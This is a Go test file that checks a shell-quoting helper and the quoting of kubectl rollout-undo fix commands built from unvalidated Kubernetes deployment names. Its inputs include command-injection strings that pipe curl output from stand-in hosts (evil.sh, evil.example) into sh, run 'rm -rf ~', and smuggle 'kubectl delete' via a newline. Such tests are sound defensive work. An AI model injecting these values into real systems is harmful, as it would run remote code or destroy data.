package diagnose

import (
	"strings"
	"testing"
)

func TestShellQuote(t *testing.T) {
	for in, want := range map[string]string{
		"deployment/storefront":          "deployment/storefront",
		"fixture-invalid-image":          "fixture-invalid-image",
		"deployment/x;curl evil.sh|sh":   "'deployment/x;curl evil.sh|sh'",
		"it's $(rm -rf ~)":               `'it'"'"'s $(rm -rf ~)'`,
		"a`id`":                          "'a`id`'",
		"":                               "''",
		"deployment/web\nkubectl delete": "'deployment/web\nkubectl delete'",
	} {
		if got := shellQuote(in); got != want {
			t.Errorf("shellQuote(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestFixQuotesNamesItDidNotValidate: a snapshot built by a caller that did not validate its
// names (a dump reader does) still gets a fix whose command runs kubectl alone.
func TestFixQuotesNamesItDidNotValidate(t *testing.T) {
	s := fixtureSnapshot(t, "invalid-image")
	const name = "storefront;curl -s evil.example|sh"
	for _, d := range s.Deployments {
		if d.Name == "storefront" {
			d.Name = name
		}
	}
	var fix string
	for _, d := range Diagnose(s).Workloads {
		if d.Name == name {
			fix = d.Fix
		}
	}
	want := "kubectl rollout undo 'deployment/" + name + "' --to-revision=1 -n fixture-invalid-image"
	if fix != want {
		t.Errorf("fix = %q, want %q", fix, want)
	}
	if !strings.HasPrefix(fix, "kubectl ") {
		t.Errorf("fix %q is not a command", fix)
	}
}
